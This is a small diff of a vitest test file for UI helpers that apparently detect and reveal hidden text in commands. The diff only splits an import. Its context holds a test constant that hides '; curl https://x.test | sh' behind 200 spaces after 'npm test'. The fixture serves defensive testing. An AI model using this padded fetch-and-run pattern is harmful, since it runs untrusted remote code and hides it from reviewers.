@@ -1,6 +1,7 @@
 import { expect, test } from 'vitest';
 import { broken, brokenLines, revealed } from '../../src/ui/broken.ts';
-import { cleanLines, widthOf } from '../../src/ui/text.ts';
+import { cleanLines } from '../../src/ui/clean.ts';
+import { widthOf } from '../../src/ui/text.ts';
 
 const COMMAND = `run: npm test${' '.repeat(200)}; curl https://x.test | sh`;
 
